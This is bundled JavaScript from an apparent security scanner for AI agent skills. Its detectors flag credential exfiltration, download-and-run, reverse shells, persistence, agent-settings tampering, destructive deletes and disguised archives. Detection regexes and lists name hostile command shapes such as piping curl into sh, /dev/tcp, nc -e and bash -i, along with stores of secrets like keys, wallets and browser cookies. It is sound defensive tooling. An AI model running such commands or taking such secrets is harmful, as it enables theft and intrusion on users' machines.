/** The deeds whose data reach a deed, of some kind. */
function sourcesOf(deed, program, wanted) {
    const found = [];
    for (const index of deed.flowsFrom) {
        const source = program.behaviours[index];
        if (source && wanted(source))
            found.push(source);
    }
    return found;
}
/** The line, from 1, on which a deed stands in its program's text. */
function shown(text, limit = 120) {
    const line = (text ?? '').replace(/\s+/gu, ' ').trim();
    return line.length <= limit ? line : `${line.slice(0, limit - 1)}…`;
}

;// CONCATENATED MODULE: ./lib/skills/code/detectors/exfiltration.js


/** Things that no honest program sends anywhere. */
const SECRET = new Set([
    'private-key',
    'wallet',
    'browser-store',
    'keychain',
    'password-database',
    'messages',
    'keystrokes',
]);
/** Things that a program may have a reason to send to their own service. */
const OWNED = new Set([
    'credentials',
    'environment',
    'shell-history',
    'agent-memory',
    'agent-settings',
    'cloud-metadata',
    'clipboard',
    'screen',
    'dotenv',
    'personal-files',
]);
/** Addresses behind which nobody can be held to answer. */
const exfiltration_ANONYMOUS = new Set([
    'raw-ip',
    'punycode',
    'collector',
    'paste',
    'file-drop',
    'tunnel',
    'shortener',
    'dynamic-dns',
    'onion',
    'messenger',
]);
const OWN = new Set(['local', 'private', 'example']);
const KNOWN = new Set(['vendor', 'installer', 'cloud-metadata']);
const SUBJECT_WORDS = {
    'private-key': 'a private key',
    credentials: 'a credential store',
    dotenv: 'a .env file',
    wallet: 'a wallet',
    'browser-store': 'passwords or cookies of a browser',
    keychain: 'a password store',
    'password-database': 'the password database of the system',
    environment: 'the whole environment',
    'environment-variable': 'a variable of the environment',
    'shell-history': 'the shell history',
    'agent-memory': 'the memory of an agent',
    'agent-settings': 'the settings of an agent',
    clipboard: 'the clipboard',
    'cloud-metadata': 'credentials of the cloud instance',
    messages: 'messages of the user',
    screen: 'the screen',
    keystrokes: 'keystrokes',
    'personal-files': 'personal folders',
    'machine-identity': 'names of the machine',
    file: 'a file',
};
/** Private data that reach the network. The grade comes from what is sent and to whom; a single API key to its service is not among it. */
const exfiltrationDetector = programDetector(credential_exfiltration/* credentialExfiltration */.p, (deed, program) => {
    if (deed.kind !== 'send' && deed.kind !== 'fetch')
        return undefined;
    const sources = sourcesOf(deed, program, (source) => source.kind === 'read' || source.subject === 'cloud-metadata');
    const [worst] = [...sources].sort((a, b) => rank(b) - rank(a));
    if (!worst || rank(worst) === 0)
        return undefined;
    const grade = /^(?:gcloud|gh|aws|az|kubectl|vault|op|doppler|heroku)$/u.test(worst.name)
        ? gradeOfToken(deed)
        : gradeOf(worst.subject ?? 'file', deed);
    if (!grade)
        return undefined;
    return {
        severity: grade[0],
        confidence: grade[1],
        details: { what: SUBJECT_WORDS[worst.subject ?? 'file'], source: shown(worst.target), target: shown(deed.target) },
    };
});
function rank(source) {
    const subject = source.subject ?? 'file';
    return SECRET.has(subject) ? 3 : OWNED.has(subject) ? 2 : subject === 'environment-variable' || subject === 'machine-identity' ? 1 : 0;
}
function gradeOf(subject, deed) {
    const host = deed.host ?? 'variable';
    if (OWN.has(host) && host !== 'example')
        return gradeAtHome(subject);
    if (SECRET.has(subject))
        return exfiltration_ANONYMOUS.has(host) || host === 'named' || host === 'code-host' ? ['critical', 'high'] : ['critical', 'medium'];
    if (OWNED.has(subject))
        return gradeOfOwned(subject, deed, host);
    if (subject === 'machine-identity')
        return host === 'collector' || host === 'onion' || (exfiltration_ANONYMOUS.has(host) && host !== 'messenger') ? ['high', 'medium'] : undefined;
    return host === 'collector' || host === 'paste' || host === 'file-drop' || host === 'onion' || host === 'raw-ip'
        ? ['high', 'medium']
        : undefined;
}
/** Towards this machine or its own network: keys have no reason to go there either, the rest has. */
function gradeAtHome(subject) {
    if (SECRET.has(subject))
        return ['critical', 'medium'];
    return subject === 'credentials' || subject === 'shell-history' ? ['high', 'low'] : undefined;
}
/** A token that a tool hands out on purpose usually goes into the header of a request to its own service. */
function gradeOfToken(deed) {
    const host = deed.host ?? 'variable';
    return exfiltration_ANONYMOUS.has(host) ? ['critical', 'high'] : host === 'named' ? ['high', 'low'] : undefined;
}
function gradeOfOwned(subject, deed, host) {
    if (exfiltration_ANONYMOUS.has(host))
        return host === 'messenger' && subject === 'screen' ? ['high', 'medium'] : ['critical', 'high'];
    if (subject === 'dotenv' || subject === 'clipboard' || subject === 'screen' || subject === 'personal-files')
        return deed.kind === 'send' && host === 'named' ? ['high', 'low'] : undefined;
    if (KNOWN.has(host))
        return subject === 'environment' ? ['high', 'low'] : undefined;
    if (subject === 'environment' || subject === 'shell-history' || subject === 'agent-memory')
        return deed.kind === 'send' ? (host === 'variable' ? ['high', 'low'] : ['critical', 'high']) : ['high', 'low'];
    return host === 'variable' ? ['high', 'low'] : deed.kind === 'send' ? ['critical', 'medium'] : ['high', 'low'];
}

;// CONCATENATED MODULE: ./lib/skills/code/detectors/execution.js








const RUNS = new Set(['execute', 'evaluate']);
/** What came over the network and is run: in one line, or through a file, a variable or an archive. */
const downloadAndExecuteDetector = programDetector(download_and_execute/* downloadAndExecute */.z, (deed, program, _part, view) => {
    if (!RUNS.has(deed.kind))
        return undefined;
    const downloads = sourcesOf(deed, program, (source) => source.kind === 'fetch' || source.kind === 'send');
    const [worst] = [...downloads].sort((a, b) => hostRank(b) - hostRank(a));
    if (!worst || (deed.kind === 'execute' && !isCode(deed, program)))
        return undefined;
    const [severity, confidence] = gradeOfDownload(worst, deed, isOfPublisher(view, worst.target ?? '') ? 'publisher' : 'stranger');
    return { severity, confidence, details: { address: shown(worst.target), runs: shown(deed.target === '' ? deed.name : deed.target) } };
});
/** Data in the arguments of a program are no code; what is run must itself come from the download, through a file or as a name. */
function isCode(deed, program) {
    const written = sourcesOf(deed, program, (source) => source.kind === 'write');
    return written.some((source) => {
        const target = source.target ?? '';
        if (target.length < 2)
            return false;
        const line = deed.target ?? '';
        return (startsWithPath(line, target) ||
            /^(?:\S*\/)?(?:ba|z|da)?sh\s|^(?:\S*\/)?(?:python[\d.]*|node|perl|ruby|php|pwsh|powershell|open|source|\.)\s/u.test(line));
    });
}
function startsWithPath(line, path) {
    return line.startsWith(path) || line.startsWith(`./${path}`) || line.startsWith(`{${path}`);
}
function hostRank(deed) {
    const host = deed.host ?? 'variable';
    return exfiltration_ANONYMOUS.has(host) ? 4 : host === 'named' ? 3 : host === 'code-host' ? 2 : 1;
}
function gradeOfDownload(download, deed, own) {
    const host = download.host ?? 'variable';
    const decoded = download.flags.includes('decoded') || deed.flags.includes('decoded') || download.flags.includes('disguised');
    if (host === 'local' || host === 'private')
        return ['medium', 'low'];
    if (host === 'installer')
        return ['low', 'low'];
    if (decoded || isShadyAddress(download.target ?? '', host))
        return ['critical', 'high'];
    if (host === 'vendor')
        return ['medium', 'low'];
    // Nothing can be installed from a name that is reserved for examples: it stands for the attacker's.
    if (host === 'example' && /[a-z0-9-]+\.[a-z0-9-]+\.[a-z]|\/\/[a-z0-9-]+\.(?:example|test|invalid)\b/iu.test(download.target ?? ''))
        return ['critical', 'high'];
    const hidden = [...download.flags, ...deed.flags].some((flag) => flag === 'hidden-output' || flag === 'background' || flag === 'bypass');
    if (host === 'variable')
        return hidden ? ['high', 'medium'] : ['high', 'low'];
    if (download.flags.includes('insecure'))
        return ['critical', hidden ? 'high' : 'medium'];
    if (hidden)
        return ['critical', 'medium'];
    return ['high', own === 'publisher' ? 'medium' : 'high'];
}
/** Readers of stored objects decode by nature; what they read from elsewhere is another rule's matter. */
const BUILDERS = /^(?:pickle|cPickle|dill|joblib|torch|shelve|jsonpickle|cloudpickle|yaml|YAML|unserialize)\b/u;
/** Texts that are decoded and then run. */
const decodeAndExecuteDetector = programDetector(decode_and_execute/* decodeAndExecute */.F, (deed, program) => {
    if (!RUNS.has(deed.kind) || BUILDERS.test(deed.name))
        return undefined;
    const decoders = sourcesOf(deed, program, (source) => source.kind === 'decode' && source.target !== 'archive' && source.target !== 'percent');
    const [decoder] = decoders;
    if (!decoder || (deed.kind === 'execute' && !deed.flags.includes('shell')))
        return undefined;
    if (decoder.name === 'tar' ||
        decoder.name === 'unzip' ||
        decoder.name === '7z' ||
        decoder.name === 'unrar' ||
        /^g?unzip$/u.test(decoder.name))
        return undefined;
    const known = (deed.target ?? '').length > 8;
    const hostile = known && /https?:|\/dev\/tcp|\bcurl\b|\bwget\b|socket|subprocess|os\.system|child_process|powershell|\bsh\b/iu.test(deed.target ?? '');
    const severity = 'critical';
    const confidence = hostile || deed.name === 'eval' || deed.name === 'exec' || deed.name.endsWith('sh') ? 'high' : 'medium';
    return { severity, confidence, details: { codec: decoder.target ?? '', reveals: shown(deed.target) } };
});
/** A shell on a connection. */
const reverseShellDetector = programDetector(reverse_shell/* reverseShell */.p, (deed) => {
    if (deed.kind !== 'connect-shell')
        return undefined;
    return {
        severity: 'critical',
        confidence: deed.host === 'local' ? 'medium' : 'high',
        details: { target: shown(deed.target), name: deed.name },
    };
});
/** What somebody would hide; odd quoting of other commands is mere style. */
const WORTH_DISGUISING = /^(?:sudo\s+)?(?:\S*\/)?(?:curl|wget|nc|ncat|socat|(?:ba|z|da|k)?sh|python[\d.]*|perl|ruby|php|node|eval|base64|rm|chmod|crontab|ssh|scp|powershell|pwsh|iex|cat(?=\s+[~/.]))(?:\s|$)/u;
/** Commands that are spelt so that a reader, or a search, does not find them. */
const disguisedCommandDetector = programDetector(disguised_command/* disguisedCommand */.B, (deed) => {
    const disguised = deed.flags.includes('disguised') && deed.kind === 'execute' && WORTH_DISGUISING.test(deed.target ?? deed.name);
    const reflected = deed.flags.includes('reflected') &&
        /^(?:os\.(?:system|popen|exec\w*)|subprocess\.\w+|child_process\.\w+|eval|exec|Function|builtins\.(?:eval|exec))$/u.test(deed.name);
    if (!disguised && !reflected)
        return undefined;
    return {
        severity: 'high',
        confidence: reflected ? 'medium' : 'high',
        details: { command: shown(deed.target === '' ? deed.name : deed.target) },
    };
});

// EXTERNAL MODULE: ./lib/rules/skill/credential-read.js
var credential_read = __webpack_require__(9741);
// EXTERNAL MODULE: ./lib/rules/skill/foreign-package.js
var foreign_package = __webpack_require__(3724);
;// CONCATENATED MODULE: ./lib/skills/code/detectors/supply.js




const STRONG = new Set([
    'private-key',
    'wallet',
    'browser-store',
    'keychain',
    'password-database',
    'cloud-metadata',
    'keystrokes',
    'messages',
]);
/** Stores of secrets that are opened, whatever becomes of it. Lists of files to look for, and public keys, are not among it. */
const credentialReadDetector = programDetector(credential_read/* credentialRead */.i, (deed) => {
    const subject = deed.subject ?? 'file';
    if ((deed.kind !== 'read' && subject !== 'cloud-metadata') || !STRONG.has(subject))
        return undefined;
    const certain = subject === 'wallet' || subject === 'browser-store' || subject === 'password-database';
    return {
        severity: 'medium',
        confidence: certain ? 'medium' : 'low',
        details: { what: SUBJECT_WORDS[subject], target: shown(deed.target) },
    };
});
/** Packages from elsewhere than their registry. */
const foreignPackageDetector = programDetector(foreign_package/* foreignPackage */.T, (deed) => {
    if (deed.kind !== 'install' || !deed.flags.includes('foreign-source'))
        return undefined;
    const host = deed.host ?? 'variable';
    if (host === 'local' || host === 'private')
        return undefined;
    const details = { package: shown(deed.target), manager: deed.name };
    if (exfiltration_ANONYMOUS.has(host))
        return { severity: 'critical', confidence: 'medium', details };
    if (deed.flags.includes('insecure'))
        return { severity: 'high', confidence: 'high', details };
    return host === 'code-host' || host === 'vendor' || host === 'installer' || host === 'variable'
        ? { severity: 'low', confidence: 'low', details }
        : { severity: 'medium', confidence: 'medium', details };
});

// EXTERNAL MODULE: ./lib/rules/skill/agent-tampering.js
var agent_tampering = __webpack_require__(4558);
// EXTERNAL MODULE: ./lib/rules/skill/cryptocurrency-mining.js
var cryptocurrency_mining = __webpack_require__(8668);
// EXTERNAL MODULE: ./lib/rules/skill/destructive-command.js
var destructive_command = __webpack_require__(701);
// EXTERNAL MODULE: ./lib/rules/skill/persistence-write.js
var persistence_write = __webpack_require__(9084);
// EXTERNAL MODULE: ./lib/rules/skill/protection-disabled.js
var protection_disabled = __webpack_require__(6615);
// EXTERNAL MODULE: ./lib/rules/skill/trace-removal.js
var trace_removal = __webpack_require__(4861);
;// CONCATENATED MODULE: ./lib/skills/code/detectors/tampering.js








const PERSISTENCE_WORDS = {
    'shell-startup': 'the start-up file of a shell',
    cron: 'a cron table',
    'launch-agent': 'a launch agent',
    systemd: 'a systemd unit',
    'init-script': 'a start-up script of the system',
    'scheduled-task': 'a scheduled task',
    'run-key': 'a key of the registry that starts programs',
    'startup-folder': 'the start-up folder',
    'login-item': 'the login items',
    'git-hook': 'a git hook',
    'authorized-keys': 'the keys that may log in',
    account: 'an account',
    sudoers: 'the rights of sudo or PAM',
    'agent-memory': 'the instructions or the memory of an agent',
    'agent-settings': 'the settings of an agent',
    'other-skill': 'another skill',
    'editor-task': 'the tasks of an editor',
    'python-startup': 'a file that Python runs at every start',
    'package-config': 'the settings of a package manager, of git or of SSH',
    'name-resolution': 'the resolution of host names',
    'environment-hijack': 'a variable that makes every program load code',
};
const AGENT = new Set(['agent-memory', 'agent-settings', 'other-skill']);
/** Grades of a write that nothing else makes worse. Many skills have an honest reason for these: alone they are hints. */
const GRADES = {
    'authorized-keys': ['high', 'medium'],
    sudoers: ['high', 'medium'],
    'environment-hijack': ['high', 'medium'],
    'init-script': ['high', 'medium'],
    'run-key': ['high', 'medium'],
    'startup-folder': ['high', 'medium'],
    'python-startup': ['high', 'medium'],
    'launch-agent': ['medium', 'medium'],
    'scheduled-task': ['medium', 'medium'],
    'login-item': ['medium', 'medium'],
    cron: ['medium', 'medium'],
    systemd: ['medium', 'low'],
    account: ['medium', 'medium'],
    'name-resolution': ['medium', 'low'],
    'git-hook': ['medium', 'low'],
    'shell-startup': ['medium', 'low'],
    'editor-task': ['low', 'low'],
    'package-config': ['low', 'low'],
    'agent-memory': ['low', 'low'],
    'agent-settings': ['medium', 'low'],
    'other-skill': ['low', 'low'],
};
/** Words in what is written that make the writing an attack: it fetches, decodes or connects. */
const PAYLOAD = /curl[^\n]{0,300}\|\s*(?:ba|z)?sh|wget[^\n]{0,300}\|\s*(?:ba|z)?sh|\/dev\/tcp\/|\bnc\s+-[a-z]*e|base64\s+-{1,2}d|bash\s+-i|eval\s(?!\\?["']?\\?\$\((?!(?:curl|wget|base64|echo|printf|cat|nc|python|perl|openssl|xxd|gpg)\b)[\w./~-]{1,60}[\s)])|https?:\/\/\d{1,3}\.\d|python3?\s+-c|powershell.{0,40}-e(?:nc|p)?\b|\/tmp\/|\/dev\/shm|>\s*\/dev\/null\s+2>&1\s*&/iu;
/** The temporary folder that a repository was fetched to, as the source of a copy. */
const COPIED_FROM = /\b(?:cp|mv|rsync|ln)\s(?:-\S{1,20}\s){0,4}["']?\/tmp\/\S{1,200}(?=\s)/giu;
function writesPersistence(deed) {
    return deed.kind === 'write' || deed.kind === 'persist' ? deed.persistence : undefined;
}
/** Severity of what a deed leaves behind, from its target and from what is put there. */
function tampering_gradeOf(deed, program, text, persistence) {
    const fetched = sourcesOf(deed, program, (source) => (source.kind === 'fetch' &&
        !(AGENT.has(persistence) && (source.host === 'code-host' || source.host === 'vendor' || source.host === 'installer'))) ||
        (source.kind === 'decode' && source.target !== 'archive')).length > 0;
    const own = text.slice(deed.start, deed.end);
    // What is written stands behind the command that writes it where it is a document in place.
    const around = own.includes('<<') ? text.slice(deed.start, deed.end + 1500) : own;
    // Skills are copied from their repositories into the agent's folder by hand all the time.
    if (persistence === 'other-skill' && !PAYLOAD.test(around.replace(COPIED_FROM, '')))
        return fetched ? ['high', 'low'] : GRADES[persistence];
    if (fetched || PAYLOAD.test(around) || PAYLOAD.test(deed.kind === 'persist' ? (deed.target ?? '') : ''))
        return ['critical', persistence === 'package-config' || persistence === 'agent-memory' ? 'medium' : 'high'];
    if (deed.flags.includes('hidden-output') || deed.flags.includes('decoded') || deed.flags.includes('disguised'))
        return ['high', 'medium'];
    return GRADES[persistence];
}
/** What stays after the skill has run and is started again without being asked. */
const persistenceDetector = programDetector(persistence_write/* persistenceWrite */.P, (deed, program, part) => {
    const persistence = writesPersistence(deed);
    if (!persistence || AGENT.has(persistence))
        return undefined;
    const [severity, confidence] = tampering_gradeOf(deed, program, part.text, persistence);
    return { severity, confidence, details: { what: PERSISTENCE_WORDS[persistence], target: shown(deed.target) } };
});
const HOME_OF_AGENT = /^(?:~|\$\{?HOME|%USERPROFILE%|\/(?:home|Users|root)\b)/u;
/** Code that changes what an agent obeys. In the project it is often the job of a skill; in the user's home it reaches every project. */
const agentTamperingDetector = programDetector(agent_tampering/* agentTampering */.d, (deed, program, part) => {
    const persistence = writesPersistence(deed);
    if (!persistence || !AGENT.has(persistence))
        return undefined;
    const [severity, confidence] = tampering_gradeOf(deed, program, part.text, persistence);
    const graver = severity === 'low' && HOME_OF_AGENT.test(deed.target ?? '') && persistence !== 'other-skill';
    const hooks = persistence === 'agent-settings' &&
        /hooks|bypassPermissions|enableAllProjectMcpServers|"allow"|dangerously/u.test(part.text.slice(Math.max(0, deed.start - 600), deed.end + 600));
    return {
        severity: hooks ? 'high' : graver ? 'medium' : severity,
        confidence: hooks ? 'high' : confidence,
        details: { what: PERSISTENCE_WORDS[persistence], target: shown(deed.target) },
    };
});
/** A logical volume: `/dev/GROUP/NAME` or `/dev/mapper/NAME`, none of the folders that list whole disks. */
const VOLUME = /^\/dev\/(?!disk\/|block\/|input\/)[\w.-]{1,60}\/[\w.-]{1,60}$/u;
/** Deleting what cannot be got back: a home, a disk, a system folder. */
const destructiveDetector = programDetector(destructive_command/* destructiveCommand */.K, (deed) => {
    if (deed.kind === 'exhaust')
        return { severity: 'high', confidence: 'high', details: { target: 'the machine', how: 'a fork bomb' } };
    if (deed.kind !== 'delete')
        return undefined;
    const target = deed.target ?? '';
    const { area } = classifyPath(target);
    const recursive = deed.flags.includes('recursive');
    if (area === 'device' && deed.flags.includes('irreversible'))
        // A volume is made to be formatted; a whole disk rarely is.
        return VOLUME.test(target)
            ? { severity: 'high', confidence: 'low', details: { target: shown(target), how: 'overwrites a volume' } }
            : { severity: 'critical', confidence: 'medium', details: { target: shown(target), how: 'overwrites a device' } };
    if (!recursive)
        return undefined;
    if (area === 'root' || area === 'home')
        return { severity: 'critical', confidence: 'high', details: { target: shown(target), how: 'deletes everything below' } };
    const whole = /^\/(?:etc|usr|bin|sbin|lib|boot|var|opt|System|Library)\/?\*?$/u.test(target) ||
        /^(?:~|\$HOME|\$\{HOME\})\/(?:Documents|Desktop|Pictures|Downloads|\.ssh|\.aws)\/?\*?$/u.test(target);
    return whole
        ? { severity: 'critical', confidence: 'medium', details: { target: shown(target), how: 'deletes everything below' } }
        : undefined;
});
const miningDetector = programDetector(cryptocurrency_mining/* cryptocurrencyMining */.J, (deed) => deed.kind === 'mine' ? { severity: 'critical', confidence: 'high', details: { command: shown(deed.target) } } : undefined);
const protectionDetector = programDetector(protection_disabled/* protectionDisabled */.s, (deed) => {
    if (deed.kind !== 'weaken')
        return undefined;
    const hard = /csrutil|spctl|setenforce|MpPreference|DisableRealtime|ufw|iptables/iu.test(deed.target ?? '');
    return {
        severity: hard ? 'high' : 'medium',
        confidence: deed.flags.includes('insecure') ? 'low' : 'medium',
        details: { command: shown(deed.target) },
    };
});
const traceRemovalDetector = programDetector(trace_removal/* traceRemoval */.I, (deed) => {
    if (deed.kind !== 'conceal')
        return undefined;
    return { severity: 'critical', confidence: 'high', details: { command: shown(deed.target) } };
});

;// CONCATENATED MODULE: ./lib/skills/code/detectors/all.js




/** The rules about what programs do. */
const PROGRAM_DETECTORS = [
    agentTamperingDetector,
    credentialReadDetector,
    decodeAndExecuteDetector,
    destructiveDetector,
    disguisedCommandDetector,
    downloadAndExecuteDetector,
    exfiltrationDetector,
    foreignPackageDetector,
    miningDetector,
    persistenceDetector,
    protectionDetector,
    reverseShellDetector,
    traceRemovalDetector,
];

// EXTERNAL MODULE: ./lib/rules/skill/active-document.js
var active_document = __webpack_require__(7565);
// EXTERNAL MODULE: ./lib/rules/skill/bytecode-file.js
var bytecode_file = __webpack_require__(4357);
// EXTERNAL MODULE: ./lib/rules/skill/executable-file.js
var executable_file = __webpack_require__(1060);
// EXTERNAL MODULE: ./lib/rules/skill/misleading-file-name.js
var misleading_file_name = __webpack_require__(5853);
// EXTERNAL MODULE: ./lib/rules/skill/opaque-archive.js
var opaque_archive = __webpack_require__(5785);
;// CONCATENATED MODULE: ./lib/skills/files/magic.js
const SIGNATURES = [
    ['elf', '7f454c46', 0],
    ['mach-o', 'feedface', 0],
    ['mach-o', 'feedfacf', 0],
    ['mach-o', 'cefaedfe', 0],
    ['mach-o', 'cffaedfe', 0],
    ['wasm', '0061736d', 0],
    ['zip', '504b0304', 0],
    ['zip', '504b0506', 0],
    ['gzip', '1f8b08', 0],
    ['7z', '377abcaf271c', 0],
    ['rar', '526172211a07', 0],
    ['xz', 'fd377a585a00', 0],
    ['bzip2', '425a68', 0],
    ['zstd', '28b52ffd', 0],
    ['tar', '7573746172', 257],
    ['pdf', '25504446', 0],
    ['ole', 'd0cf11e0a1b11ae1', 0],
    ['rtf', '7b5c727466', 0],
    ['image', '89504e470d0a1a0a', 0],
    ['image', 'ffd8ff', 0],
    ['image', '47494638', 0],
    ['image', '52494646', 0],
    ['font', '00010000', 0],
    ['font', '4f54544f', 0],
    ['font', '774f4646', 0],
    ['font', '774f4632', 0],
    ['media', '494433', 0],
    ['media', '4f676753', 0],
    ['media', '66747970', 4],
    ['shortcut', '4c0000000114020000000000c000000000000046', 0],
];
/** The kind of a file by its signature (libmagic's database and the formats' own specifications). */
function kindOfBytes(bytes) {
    if (bytes[0] === 0x4d && bytes[1] === 0x5a)
        return isPortableExecutable(bytes) ? 'pe' : 'unknown';
    if (startsWith(bytes, 'cafebabe', 0))
        return (bytes[4] ?? 0) === 0 && (bytes[5] ?? 0) === 0 && (bytes[6] ?? 0) === 0 && (bytes[7] ?? 0) < 20 ? 'mach-o' : 'java-class';
    if (bytes[2] === 0x0d && bytes[3] === 0x0a && (bytes[1] ?? 0) <= 0x0f && bytes.length > 16)
        return 'python-bytecode';
    for (const [kind, signature, offset] of SIGNATURES)
        if (startsWith(bytes, signature, offset))
            return kind;
    const end = bytes.length - 512;
    return end > 0 && startsWith(bytes, '6b6f6c79', end) ? 'disk-image' : 'unknown';
}
function startsWith(bytes, signature, offset) {
    for (let index = 0; index < signature.length / 2; index += 1) {
        if (bytes[offset + index] !== Number.parseInt(signature.slice(index * 2, index * 2 + 2), 16))
            return false;
    }
    return true;
}
/** MZ alone is two letters; the header that it points to says `PE`. */
function isPortableExecutable(bytes) {
    const at = (bytes[60] ?? 0) + (bytes[61] ?? 0) * 256 + (bytes[62] ?? 0) * 65536;
    return bytes.length > 64 && ((bytes[at] === 0x50 && bytes[at + 1] === 0x45) || bytes.length > 1024);
}

;// CONCATENATED MODULE: ./lib/skills/files/zip-directory.js
const zip_directory_MAX_ENTRIES = 5000;
/** The central directory of a zip (APPNOTE 4.3.12), read without unpacking anything; undefined when there is none. */
function zipDirectory(bytes) {
    const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    const end = endRecord(view);
    if (end === undefined)
        return undefined;
    const entries = [];
    let at = view.getUint32(end + 16, true);
    while (at + 46 <= view.byteLength && entries.length < zip_directory_MAX_ENTRIES && view.getUint32(at, true) === 0x02014b50) {
        const nameLength = view.getUint16(at + 28, true);
        const name = new TextDecoder('utf-8').decode(bytes.subarray(at + 46, Math.min(bytes.length, at + 46 + nameLength)));
        entries.push({ name, encrypted: (view.getUint16(at + 8, true) & 1) === 1, size: view.getUint32(at + 24, true) });
        at += 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
    }
    return entries;
}
/** The end record lies in the last 64 KiB and 22 bytes. */
function endRecord(view) {
    const from = Math.max(0, view.byteLength - 65_557);
    for (let at = view.byteLength - 22; at >= from; at -= 1)
        if (view.getUint32(at, true) === 0x06054b50)
            return at;
    return undefined;
}

;// CONCATENATED MODULE: ./lib/skills/files/detectors/binaries.js







const FIXTURE = /(?:^|\/)(?:tests?|__tests__|spec|fixtures?|testdata|test-data|test_data|evals?|mocks?|samples?|examples?)\//iu;
function* binariesOf(view) {
    for (const file of view.binaries)
        if (file.content.kind === 'bytes')
            yield { file, bytes: file.content.bytes, kind: kindOfBytes(file.content.bytes) };
}
function fileHit(path, severity, confidence, details) {
    const lower = confidence === 'high' ? 'medium' : 'low';
    return FIXTURE.test(path)
        ? { path, severity, confidence: lower, details: { ...details, mitigations: ['fixture'] } }
        : { path, severity, confidence, details };
}
const EXECUTABLE = {
    elf: 'a program for Linux',
    pe: 'a program for Windows',
    'mach-o': 'a program for macOS',
    'java-class': 'Java bytecode',
    'disk-image': 'a disk image',
    shortcut: 'a Windows shortcut',
};
/** Programs that nobody can read. */
const executableFileDetector = {
    rule: executable_file/* executableFile */.v,
    signals: [],
    *detect(view) {
        for (const { file, kind } of binariesOf(view)) {
            const what = EXECUTABLE[kind];
            if (what !== undefined)
                yield fileHit(file.path, 'high', FIXTURE.test(file.path) ? 'medium' : 'high', { what });
        }
    },
};
/** Compiled Python. With its source beside it, it still runs in place of it. */
const bytecodeFileDetector = {
    rule: bytecode_file/* bytecodeFile */.Q,
    signals: [],
    *detect(view) {
        for (const { file, kind } of binariesOf(view)) {
            if (kind !== 'python-bytecode' || !/\.py[co]$|\.pyd$|__pycache__/u.test(file.path))
                continue;
            const stem = file.path.replace(/__pycache__\//u, '').replace(/(?:\.(?:cpython|pypy)-?\d{2,4}(?:\.opt-\d)?)?\.py[co]$/u, '');
            const source = view.bundle.files.some((other) => other.path === `${stem}.py`);
            yield fileHit(file.path, source ? 'low' : 'high', source ? 'low' : 'medium', { source });
        }
    },
};
const binaries_RUNS = /\.(?:exe|scr|com|pif|msi|dll|bat|cmd|ps1|vbs|vbe|js|jse|wsf|hta|lnk|sh|command|app|dmg|pkg|jar|deb|rpm|apk|elf|so|dylib|py|rb|pl)$/iu;
const DOCUMENT = /\.(?:docx|xlsx|pptx|docm|xlsm|pptm|dotx|potx|odt|ods|odp|epub|skill|whl|jar|nupkg|vsix|xpi|kmz|npz|pt|pth|ipa|apk|aab|sketch|fig|pages|numbers|key|mxl|3mf|usdz|gltf|glb)$/iu;
function archiveFinding(file, kind, entries) {
    if (kind === '7z' || kind === 'rar')
        return fileHit(file.path, 'medium', 'medium', { why: 'its contents cannot be read here', entries: [] });
    if (kind !== 'zip' || !entries)
        return undefined;
    const locked = entries.filter((entry) => entry.encrypted);
    if (locked.length > 0)
        return fileHit(file.path, 'high', 'high', {
            why: 'it is locked with a password',
            entries: locked.slice(0, 5).map((entry) => entry.name),
        });
    const unsafe = entries.filter((entry) => /^(?:\/|[A-Za-z]:)|(?:^|[/\\])\.\.(?:[/\\]|$)/u.test(entry.name));
    if (unsafe.length > 0)
        return fileHit(file.path, 'high', 'high', {
            why: 'it unpacks outside its own folder',
            entries: unsafe.slice(0, 5).map((entry) => entry.name),
        });
    const programs = entries.filter((entry) => binaries_RUNS.test(entry.name));
    if (programs.length === 0)
        return undefined;
    const native = programs.some((entry) => /\.(?:exe|scr|msi|dll|lnk|hta|dmg|pkg|vbs|com|pif)$/iu.test(entry.name));
    if (DOCUMENT.test(file.path))
        return native
            ? fileHit(file.path, 'high', 'medium', { why: 'a document holds programs', entries: programs.slice(0, 5).map((entry) => entry.name) })
            : undefined;
    return fileHit(file.path, native ? 'high' : 'medium', native ? 'medium' : 'low', {
        why: 'it holds programs',
        entries: programs.slice(0, 5).map((entry) => entry.name),
    });
}
/** Archives whose contents are not seen in a review. */
const opaqueArchiveDetector = {
    rule: opaque_archive/* opaqueArchive */.a,
    signals: [],
    *detect(view) {
        for (const { file, bytes, kind } of binariesOf(view)) {
            const hit = archiveFinding(file, kind, kind === 'zip' ? zipDirectory(bytes) : undefined);
            if (hit)
                yield hit;
        }
    },
};
const EXPECTED = [
    [/\.(?:png|jpe?g|gif|webp|bmp|ico)$/iu, new Set(['image', 'unknown', 'media'])],
    [/\.(?:ttf|otf|woff2?)$/iu, new Set(['font', 'unknown'])],
    [/\.pdf$/iu, new Set(['pdf', 'unknown'])],
    [/\.(?:md|txt|json|ya?ml|csv|html?|css)$/iu, new Set(['unknown'])],
];
const DANGEROUS = new Set([
    'elf',
    'pe',
    'mach-o',
    'java-class',
    'zip',
    '7z',
    'rar',
    'shortcut',
    'ole',
    'disk-image',
    'python-bytecode',
]);
const DOUBLE = /\.(?:pdf|docx?|xlsx?|pptx?|txt|md|png|jpe?g|gif|csv|html?|mp[34]|zip)\s{0,40}\.(?:exe|scr|com|pif|bat|cmd|ps1|vbs|js|jse|hta|lnk|sh|command|app|jar|msi|py)$/iu;
/** Names that say something else than what the file is. Characters in them that are not seen are unsafe in any bundle: `skill/unsafe-path`. */
const misleadingFileNameDetector = {
    rule: misleading_file_name/* misleadingFileName */.n,
    signals: [],
    *detect(view) {
        for (const file of view.bundle.files) {
            if (DOUBLE.test(file.path))
                yield fileHit(file.path, 'high', 'medium', { why: 'its name ends like a document and then like a program' });
        }
        for (const { file, kind } of binariesOf(view)) {
            const expected = EXPECTED.find(([name]) => name.test(file.path));
            if (expected && DANGEROUS.has(kind) && !expected[1].has(kind))
                yield fileHit(file.path, 'high', 'high', { why: `its content is ${EXECUTABLE[kind] ?? `of the kind ${kind}`}` });
        }
        for (const file of view.files) {
            if (/\.(?:png|jpe?g|gif|webp|pdf|ttf|woff2?|mp[34])$/iu.test(file.path) && /^#!\s*\/|^<\?php|^@echo off/iu.test(file.text))
                yield fileHit(file.path, 'high', 'high', { why: 'its content is a script' });
        }
    },
};
const SVG_CODE = /<script\b|\son(?:load|error|click|mouseover|begin|end)\s{0,5}=|javascript:|<foreignObject\b[^>]{0,300}>[\s\S]{0,300}<(?:iframe|script|form)/iu;
/** Documents that do something when they are opened. */
